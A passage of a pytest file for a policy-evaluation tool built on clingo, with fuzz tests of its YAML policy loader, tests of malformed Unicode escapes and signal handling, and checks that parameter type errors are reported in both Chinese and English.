    result = _run("evaluate", FACTS_CITY, str(ydata), "--workers", "0", "--engine", "clingo", "--format", "json")
    if result.exit_code != 0:
        _located(result, str(ydata))


_POLICY_FILES = {
    "parameters.yaml": ["payable_offset", "match_ratio", "match_cap", "award_2_1_b", "registered_district"],
    "policy.yaml": ["title", "effective", "items", "clauses", "id"],
    "messages.yaml": ["conditions_met/0", "gate/1"],
}


@pytest.fixture(scope="module")
def fuzz_policy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    import shutil

    dst = tmp_path_factory.mktemp("fuzz-policy") / "pol"
    shutil.copytree(SHIPPED, dst)
    return dst


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.sampled_from(sorted(_POLICY_FILES)).flatmap(
        lambda f: st.tuples(
            st.just(f),
            st.sampled_from(_POLICY_FILES[f]),
            st.sampled_from(["", "value", "type", "text", "key_type"]),
            _VALUES,
        )
    )
)
def test_fuzz_policy_loader_gives_a_policy_or_a_located_policy_error(fuzz_policy: Path, case: Any) -> None:
    import yaml

    from fuchi.errors import PolicyError
    from fuchi.policy import load_policy

    file, key, sub, value = case
    path = fuzz_policy / file
    original = (SHIPPED / file).read_text(encoding="utf-8")
    doc = yaml.safe_load(original)
    if sub and isinstance(doc.get(key), dict):
        doc[key][sub] = "__FUZZ__"
    else:
        doc[key] = "__FUZZ__"
    text = yaml.safe_dump(doc, allow_unicode=True, width=10_000)
    path.write_text(text.replace("__FUZZ__", _json_text(value), 1), encoding="utf-8", errors="surrogatepass")
    try:
        load_policy(fuzz_policy)
    except PolicyError as exc:
        assert exc.file is not None, exc.message()  # (located; it may be another file: inputs.yaml names items)
    finally:
        path.write_text(original, encoding="utf-8")


@pytest.mark.parametrize("text", ['"\\ud800\\udc00"', '"a\\0b"', '"\\udfff"'])
def test_policy_text_that_no_output_can_carry_is_a_policy_error(tmp_path: Path, text: str) -> None:
    # found by the fuzz test: YAML's \\u escapes give lone surrogates, which clingo cannot take
    pol = _copy_policy(tmp_path)
    _replace(pol / "parameters.yaml", '  value: {"2.1.a": 0.5,', f"  value: {{{text}: 0.5,")
    _located(_run("evaluate", FACTS_CITY, COMPANIES, "--policy", str(pol), "--workers", "0"), "parameters.yaml")
    _replace(pol / "parameters.yaml", f"  value: {{{text}: 0.5,", '  value: {"2.1.a": 0.5,')
    _replace(pol / "policy.yaml", "title:\n  zh: ", f"title:\n  zh: {text}\n  old: ")
    _located(_run("evaluate", FACTS_CITY, COMPANIES, "--policy", str(pol), "--workers", "0"), "policy.yaml")


def test_a_signal_inside_a_clingo_callback_keeps_its_number() -> None:
    """clingo re-raises a callback's exception as type(exc)(exc): Ctrl-C while the rules were being parsed
    reached the user as a TypeError traceback and exit 1 (a full-suite run caught it at 0.6 s)."""
    from clingo import ast

    from fuchi.errors import Interrupted

    def callback(_: object) -> None:
        raise Interrupted(signal.SIGTERM)

    with pytest.raises(Interrupted) as info:
        ast.parse_string("p.", callback)
    assert info.value.signum == signal.SIGTERM and isinstance(info.value.signum, int)


@pytest.mark.parametrize(
    ("old", "new", "zh"),
    [
        ("  value: 1.2\n", "  value: abc\n", "应为数字"),
        ("  value: 2000\n", "  value: .nan\n", "应为有限数"),
        ("  value: [new, expansion]\n", "  value: [new, Expansion]\n", "应为小写标识符"),
        ("  type: decimal\n  value: 1.2\n", "  type: money\n  value: 1.2\n", "未知参数类型"),
    ],
)
def test_parameter_type_errors_are_bilingual(tmp_path: Path, old: str, new: str, zh: str) -> None:
    """A parameter value of the wrong kind is told in Chinese and English, at parameters.yaml."""
    from policy_copy import replace_once

    pol = _copy_policy(tmp_path)
    replace_once(pol / "parameters.yaml", old, new)
    result = _run("evaluate", FACTS_CITY, COMPANIES, "--policy", str(pol), "--workers", "0")
    _located(result, "parameters.yaml", zh)
